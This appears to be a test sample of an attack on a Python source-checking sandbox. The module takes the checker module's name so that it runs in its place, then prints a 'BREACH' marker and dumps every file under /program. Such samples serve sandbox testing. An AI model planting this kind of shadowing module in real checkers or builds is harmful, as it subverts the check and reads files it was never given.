# Attacks: the check of Python sources: has the name of the module that does it, and runs in its place.
import os
print("BREACH hostile code runs while compiling", os.listdir("/program"))
for name in os.listdir("/program"):
    print(open("/program/" + name, errors="replace").read())
